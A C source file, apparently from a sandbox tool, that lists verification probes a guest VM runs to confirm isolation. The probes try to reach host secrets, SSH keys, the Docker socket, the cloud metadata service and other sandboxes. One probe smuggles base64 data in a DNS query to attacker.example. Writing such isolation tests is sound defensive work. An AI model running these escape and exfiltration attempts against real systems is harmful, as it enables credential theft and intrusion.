/* The rows of verify: see verify.h. */
#include "cli/verify.h"

#include <arpa/inet.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "base/fd.h"
#include "cli/call.h"
#include "cli/output.h"
#include "cli/verify_host.h"

/* The agent, as it is seen in the guest. */
#define AGENT "/proc/1/exe"
#define PATH_TEXT_SIZE (SANDBOX_NAME_SIZE + 32)
/* A row may take this long: a guest that hangs is a failure. */
#define ROW_TIMEOUT_MS 30000
/* A frame takes its way through an emulated device. */
#define FRAME_WAIT_MS 3000
/* What a command is given that would take longer. */
#define TIME_GIVEN_MS 300
#define ARGS_MAX 10

bool
verify_run(struct verify *v, const struct verify_program *p,
    char found[VERIFY_FOUND_SIZE], struct session_end *ret_end)
{
	AUTO_CLOSE int out = memfd_create("tapward-verify", MFD_CLOEXEC);
	const struct session_command c = {
		.argv = p->argv,
		.timeout_ms =
		    p->timeout_ms == 0 ? ROW_TIMEOUT_MS : p->timeout_ms,
		.output_max = 65536,
		.in_fd = -1,
		.out_fd = out,
		.err_fd = out,
	};
	struct err err = { "" };
	ssize_t n;

	if (out == -1 || session_run(v->session, &c, ret_end, &err) != 0) {
		(void)snprintf(found, VERIFY_FOUND_SIZE, "%.200s", err.text);
		return false;
	}
	n = pread(out, p->buf, p->size - 1, 0);
	p->buf[n > 0 ? n : 0] = '\0';
	return true;
}

/* One line of what a guest wrote. */
static void
make_word(char found[VERIFY_FOUND_SIZE])
{
	found[strcspn(found, "\n")] = '\0';
	for (char *p = found; *p != '\0'; p++)
		if (*p < 0x20 || *p > 0x7e)
			*p = '?';
}

bool
verify_probe(struct verify *v, const char *const *argv, uint32_t timeout_ms,
    char found[VERIFY_FOUND_SIZE], struct session_end *ret_end)
{
	const char *args[ARGS_MAX] = { AGENT, "--probe" };
	const struct verify_program p = { args, timeout_ms, found,
		VERIFY_FOUND_SIZE };
	struct session_end end;

	for (size_t i = 0; i + 3 < ARGS_MAX && argv[i] != NULL; i++)
		args[i + 2] = argv[i];
	if (!verify_run(v, &p, found, &end))
		return false;
	make_word(found);
	if (ret_end != NULL) {
		*ret_end = end;
		return true;
	}
	if (session_status(&end) == 0)
		return true;
	(void)snprintf(found, VERIFY_FOUND_SIZE,
	    "the probe ended with %d %.200s", session_status(&end), end.text);
	return false;
}

bool
verify_has(struct verify *v, const char *path)
{
	const char *const argv[] = { "path", path, NULL };
	char found[VERIFY_FOUND_SIZE];

	return verify_probe(v, argv, 0, found, NULL) &&
	    strcmp(found, "absent") != 0;
}

static bool
probe(struct verify *v, const char *const *argv, char found[VERIFY_FOUND_SIZE])
{
	return verify_probe(v, argv, 0, found, NULL);
}

/* Does text begin with one of the words? */
static bool
begins(const char *text, const char *words)
{
	while (*words != '\0') {
		size_t len = strcspn(words, "|");

		if (len > 0 && strncmp(text, words, len) == 0)
			return true;
		words += len + (words[len] == '|' ? 1 : 0);
	}
	return false;
}

static bool
row_probe(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	return probe(v, row->argv, found) && begins(found, row->want);
}

/* What the gate says of itself (proxy/metadata.h). */
#define METADATA_OURS "403 placeholders|404 placeholders"

/* Shut; or, where a credential says `metadata = yes`, the gate's own. */
static bool
row_metadata(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	static const char *const http[] = { "http", "169.254.169.254", "80",
		"/", NULL };

	if (!probe(v, row->argv, found))
		return false;
	return begins(found, row->want) ||
	    (probe(v, http, found) && begins(found, METADATA_OURS));
}

/* A path that must not be there: of the row, or one that only we know. */
static bool
absent(struct verify *v, const char *path, char found[VERIFY_FOUND_SIZE])
{
	const char *const argv[] = { "path", path, NULL };

	return probe(v, argv, found) && strcmp(found, "absent") == 0;
}

static bool
row_absent(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	return absent(v, row->argv[0], found);
}

static bool
row_canary(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	(void)row;
	return absent(v, v->canary, found);
}

static bool
row_socket(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	(void)row;
	return absent(v, v->cli->socket, found);
}

/* The caller's own keys, where they are on this host. */
static bool
row_home(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	const char *home = getenv("HOME");
	char path[VERIFY_FOUND_SIZE];

	(void)snprintf(path, sizeof(path), "%.200s/%s",
	    home == NULL ? "/root" : home, row->argv[0]);
	return absent(v, path, found);
}

/* How many packets of the guest the ruleset dropped for a reason. */
static int64_t
dropped(const struct verify *v, const char *reason)
{
	char path[PATH_TEXT_SIZE];
	struct reply reply;
	int64_t count;

	(void)snprintf(path, sizeof(path), "/v1/sandboxes/%s", v->name);
	if (call_quietly(v->cli, "GET", path, &reply) != 0)
		return -1;
	count = json_integer_value(
	    json_object_get(json_object_get(reply.json, "dropped"), reason));
	reply_done(&reply);
	return count;
}

/* A frame that is dropped, and counted, for what is wrong with it. */
static bool
row_frame(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	const struct timespec pause = { .tv_nsec = 20000000 };
	int64_t before = dropped(v, row->want), after = before;

	if (before == -1) {
		(void)snprintf(found, VERIFY_FOUND_SIZE,
		    "tapwardd does not tell what it dropped");
		return false;
	}
	if (!probe(v, row->argv, found) || strcmp(found, "sent") != 0)
		return false;
	for (int ms = 0; after <= before && ms < FRAME_WAIT_MS; ms += 20) {
		(void)nanosleep(&pause, NULL);
		after = dropped(v, row->want);
	}
	(void)snprintf(found, VERIFY_FOUND_SIZE, "sent; %s as %s",
	    after > before ? "dropped" : "not dropped", row->want);
	return after > before;
}

/* Who came to our service; it is heard out so that the next row counts anew. */
static bool
was_reached(const struct verify *v)
{
	struct pollfd p = { .fd = v->listener, .events = POLLIN };
	bool was = false;

	while (poll(&p, 1, 0) == 1) {
		int fd = accept4(v->listener, NULL, NULL, SOCK_CLOEXEC);

		if (fd != -1)
			(void)close(fd);
		was = true;
	}
	return was;
}

/* One address of this host, in words; false for one that is not tried. */
static bool
take_address(const struct ifaddrs *a, char *buf, socklen_t size)
{
	struct sockaddr_in6 six;

	/* Its own loopback is all that a guest finds at ours. */
	if (a->ifa_addr == NULL || (a->ifa_flags & IFF_LOOPBACK) != 0)
		return false;
	if (a->ifa_addr->sa_family == AF_INET)
		return getnameinfo(a->ifa_addr, sizeof(struct sockaddr_in), buf,
			   size, NULL, 0, NI_NUMERICHOST) == 0;
	if (a->ifa_addr->sa_family != AF_INET6)
		return false;
	/* Without its scope, which is a device of ours. */
	memcpy(&six, a->ifa_addr, sizeof(six));
	return inet_ntop(AF_INET6, &six.sin6_addr, buf, size) != NULL;
}

/* Each address of this host, with a service that listens on all of them. */
static bool
row_host(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	struct ifaddrs *all;
	unsigned int tried = 0;
	bool is_right = true;

	(void)row;
	if (getifaddrs(&all) == -1)
		return false;
	for (const struct ifaddrs *a = all; is_right && a != NULL;
	     a = a->ifa_next) {
		char address[64];
		const char *const argv[] = { "tcp", address, v->port, NULL };

		if (!take_address(a, address, sizeof(address)))
			continue;
		is_right = probe(v, argv, found) && strcmp(found, "open") != 0;
		tried++;
	}
	freeifaddrs(all);
	if (!is_right || was_reached(v))
		return false;
	(void)snprintf(found, VERIFY_FOUND_SIZE,
	    "none of %u addresses; the service saw nobody", tried);
	return true;
}

static bool
row_gateway(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	const char *const argv[] = { "tcp", output_member(v->about, "gateway"),
		v->port, NULL };

	(void)row;
	return probe(v, argv, found) && strcmp(found, "refused") == 0 &&
	    !was_reached(v);
}

/* Where an allowed name leads, on a port that no rule names. */
static bool
row_other_port(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	const char *const ask[] = { "dns", VERIFY_HOST, "1", NULL };
	char address[VERIFY_FOUND_SIZE];
	const char *argv[] = { "tcp", NULL, "8443", NULL };

	(void)row;
	if (!probe(v, ask, address) || strncmp(address, "NOERROR ", 8) != 0)
		return false;
	argv[1] = address + 8;
	return probe(v, argv, found) && strcmp(found, "refused") == 0;
}

/* Whatever the guest was taken down to, it answers again. */
static bool
goes_on(struct verify *v, const char *after, char found[VERIFY_FOUND_SIZE])
{
	static const char *const argv[] = { "devices", NULL };
	char word[VERIFY_FOUND_SIZE];

	if (!probe(v, argv, word)) {
		(void)snprintf(found, VERIFY_FOUND_SIZE, "%.100s; then: %.100s",
		    after, word);
		return false;
	}
	(void)snprintf(found, VERIFY_FOUND_SIZE, "%s; the guest goes on",
	    after);
	return true;
}

static json_int_t
size_of(const struct verify *v, const char *key)
{
	return json_integer_value(
	    json_object_get(json_object_get(v->about, "vm"), key));
}

/* A guest that takes all its memory loses the taker, and goes on. */
static bool
row_memory(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	char mib[24], word[VERIFY_FOUND_SIZE];
	const char *const argv[] = { "spin", mib, NULL };
	struct session_end end;

	(void)row;
	(void)snprintf(mib, sizeof(mib), "%" JSON_INTEGER_FORMAT,
	    2 * size_of(v, "memory_mib"));
	if (!verify_probe(v, argv, 0, found, &end))
		return false;
	if (end.limit != FRAME_LIMIT_MEMORY && end.end != FRAME_END_SIGNAL)
		return false;
	(void)snprintf(word, sizeof(word), "%s MiB asked for: ended", mib);
	return goes_on(v, word, found);
}

/* As many processes as there may be, or as much memory as they take. */
static bool
row_processes(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	static const char *const argv[] = { "fork", NULL };
	struct session_end end;
	char word[VERIFY_FOUND_SIZE];

	(void)row;
	if (!verify_probe(v, argv, 0, found, &end))
		return false;
	if (end.limit == FRAME_LIMIT_MEMORY || end.end == FRAME_END_SIGNAL)
		return goes_on(v, "ended for their memory", found);
	if (session_status(&end) != 0 || strncmp(found, "stopped ", 8) != 0)
		return false;
	(void)snprintf(word, sizeof(word), "%.200s", found);
	return goes_on(v, word, found);
}

static bool
row_disk(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	char mib[24];
	const char *const argv[] = { "fill", mib, NULL };

	(void)row;
	(void)snprintf(mib, sizeof(mib), "%" JSON_INTEGER_FORMAT,
	    2 * (size_of(v, "disk_mib") + size_of(v, "memory_mib")));
	return probe(v, argv, found) && strncmp(found, "full ", 5) == 0;
}

/* The image, which other guests start from, and any other disk. */
static bool
row_blocks(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	/* A disk of its own is the guest's to write. */
	const char *most = size_of(v, "disk_mib") > 0 ? "1 of " : "0 of ";

	return probe(v, row->argv, found) &&
	    strncmp(found, most, strlen(most)) == 0;
}

static bool
row_time(struct verify *v, const struct verify_row *row,
    char found[VERIFY_FOUND_SIZE])
{
	struct session_end end;

	if (!verify_probe(v, row->argv, TIME_GIVEN_MS, found, &end) ||
	    end.limit != FRAME_LIMIT_TIMEOUT)
		return false;
	return goes_on(v, "ended when its time was over", found);
}

#define ANY_REFUSAL "refused|unreachable"

/* Texts are what is tried; passed means that it came to nothing. */
const struct verify_row verify_rows[] = {
	{ "a file of this host", row_canary, { NULL }, NULL, VERIFY_ALWAYS },
	{ "secrets of this host", row_absent, { "/etc/tapward" }, NULL,
	    VERIFY_ALWAYS },
	{ "systemd's credentials", row_absent, { "/run/credentials" }, NULL,
	    VERIFY_ALWAYS },
	{ "SSH keys of whoever started it", row_home, { ".ssh" }, NULL,
	    VERIFY_ALWAYS },
	{ "the control socket", row_socket, { NULL }, NULL, VERIFY_ALWAYS },
	{ "a container engine's socket", row_absent, { "/run/docker.sock" },
	    NULL, VERIFY_ALWAYS },
	{ "KVM, to start guests of its own", row_absent, { "/dev/kvm" }, NULL,
	    VERIFY_ALWAYS },
	{ "writing to the image", row_blocks, { "blocks" }, NULL,
	    VERIFY_ALWAYS },
	/* The one that must be let through, or a refusal below says nothing. */
	{ "the allowed request, which is let through", row_probe,
	    { "http", VERIFY_HOST, "80", "/allowed/x" },
	    "502 |503 |504 |200 |404 ", VERIFY_POLICY_ONLY },
	{ "a write to the allowed host", row_probe,
	    { "http", VERIFY_HOST, "80", "/allowed/x", "PUT" }, "403 method",
	    VERIFY_POLICY_ONLY },
	{ "a push to the allowed host", row_probe,
	    { "http", VERIFY_HOST, "80", "/allowed/x.git/git-receive-pack",
		"POST" },
	    "403 method", VERIFY_POLICY_ONLY },
	{ "deleting a branch at the allowed host", row_probe,
	    { "http", VERIFY_HOST, "80", "/allowed/x/git/refs/heads/main",
		"DELETE" },
	    "403 method", VERIFY_POLICY_ONLY },
	{ "another path of the allowed host", row_probe,
	    { "http", VERIFY_HOST, "80", "/refused/x" }, "403 path",
	    VERIFY_POLICY_ONLY },
	{ "another port of the allowed host", row_other_port, { NULL }, NULL,
	    VERIFY_POLICY_ONLY },
	{ "an unapproved host, by name", row_probe,
	    { "http", "unapproved.example", "80", "/" }, "403 no-rule",
	    VERIFY_ALWAYS },
	{ "a package registry without a rule", row_probe,
	    { "http", "registry.example", "80", "/left-pad" }, "403 no-rule",
	    VERIFY_ALWAYS },
	{ "a host by its address", row_probe, { "tcp", "192.0.2.10", "443" },
	    ANY_REFUSAL, VERIFY_ALWAYS },
	{ "a host by IPv6", row_probe, { "tcp", "2001:db8::1", "443" },
	    ANY_REFUSAL, VERIFY_ALWAYS },
	{ "the metadata service", row_metadata,
	    { "tcp", "169.254.169.254", "80" }, ANY_REFUSAL, VERIFY_ALWAYS },
	{ "the metadata service by HTTP", row_probe,
	    { "http", "metadata.google.internal", "80", "/" },
	    "403 no-rule|" METADATA_OURS, VERIFY_ALWAYS },
	{ "the local network", row_probe, { "tcp", "192.168.1.1", "80" },
	    ANY_REFUSAL, VERIFY_ALWAYS },
	{ "UDP", row_probe, { "udp", "192.0.2.10", "4000" }, "refused",
	    VERIFY_ALWAYS },
	{ "QUIC", row_probe, { "udp", "192.0.2.10", "443", "quic" }, "refused",
	    VERIFY_ALWAYS },
	{ "ICMP", row_probe, { "icmp", "192.0.2.10" }, "refused|silent",
	    VERIFY_ALWAYS },
	{ "data in a DNS question", row_probe,
	    { "dns", "c2VjcmV0LWRhdGEtaW4tYS1sYWJlbA.attacker.example", "1" },
	    "NOERROR 198.18.|NOERROR 198.19.|REFUSED", VERIFY_ALWAYS },
	{ "data in a DNS answer (TXT)", row_probe,
	    { "dns", "attacker.example", "16" }, "NOERROR -|REFUSED",
	    VERIFY_ALWAYS },
	{ "a second device", row_probe, { "devices" }, "eth0|none",
	    VERIFY_ALWAYS },
	{ "frames with another MAC", row_frame, { "frame", "mac" },
	    "packet-source", VERIFY_ALWAYS },
	{ "packets with another address", row_frame, { "frame", "ip" },
	    "packet-source", VERIFY_ALWAYS },
	{ "packets for a loopback address", row_frame, { "frame", "loopback" },
	    "packet-other", VERIFY_ALWAYS },
	{ "an ARP answer for another", row_frame, { "frame", "arp" },
	    "packet-arp", VERIFY_ALWAYS },
	{ "frames with a VLAN tag", row_frame, { "frame", "vlan" },
	    "packet-ethertype", VERIFY_ALWAYS },
	{ "IPv6 frames", row_frame, { "frame", "ipv6" }, "packet-ethertype",
	    VERIFY_ALWAYS },
	{ "frames of another protocol", row_frame, { "frame", "ethertype" },
	    "packet-ethertype", VERIFY_ALWAYS },
	{ "a tunnel (GRE)", row_frame, { "frame", "tunnel" }, "packet-protocol",
	    VERIFY_ALWAYS },
	{ "fragments", row_frame, { "frame", "fragment" }, "packet-fragment",
	    VERIFY_ALWAYS },
	{ "IP options", row_frame, { "frame", "options" }, "packet-options",
	    VERIFY_ALWAYS },
	{ "a service of this host, at the gateway", row_gateway, { NULL }, NULL,
	    VERIFY_ALWAYS },
	{ "a service of this host, at each of its addresses", row_host,
	    { NULL }, NULL, VERIFY_ALWAYS },
	{ "another sandbox", verify_host_neighbour,
	    { "http", VERIFY_NEIGHBOUR_HOST, "80", "/" }, "403 no-rule",
	    VERIFY_ALWAYS },
	{ "a second device in its network", verify_host_devices, { NULL }, NULL,
	    VERIFY_ALWAYS },
	{ "a route out of its network", verify_host_routes, { NULL }, NULL,
	    VERIFY_ALWAYS },
	{ "a service in its network beside its gate", verify_host_sockets,
	    { NULL }, NULL, VERIFY_ALWAYS },
	{ "a monitor with rights", verify_host_monitor, { NULL }, NULL,
	    VERIFY_ALWAYS },
	{ "more time than a command has", row_time, { "sleep", "60" }, NULL,
	    VERIFY_ALWAYS },
	{ "more memory than it has", row_memory, { NULL }, NULL,
	    VERIFY_ALONE_ONLY },
	{ "more disk than it has", row_disk, { NULL }, NULL,
	    VERIFY_ALONE_ONLY },
	{ "more processes than it may have", row_processes, { NULL }, NULL,
	    VERIFY_ALONE_ONLY },
	{ "a revoked credential", verify_host_revoked, { NULL },
	    "tapward-reason: credential-unavailable", VERIFY_CURL_ONLY },
	{ "a sandbox in this host's own network", verify_host_isolation,
	    { NULL }, NULL, VERIFY_ALWAYS },
	{ "a sandbox of a policy with an error", verify_host_closed, { NULL },
	    NULL, VERIFY_ALWAYS },
	{ "a log without what it tried", verify_host_log, { NULL }, NULL,
	    VERIFY_ALWAYS },
	{ "a log that goes with its sandbox", verify_host_log_after, { NULL },
	    NULL, VERIFY_ROOT_ONLY },
};
const size_t verify_row_count = sizeof(verify_rows) / sizeof(verify_rows[0]);
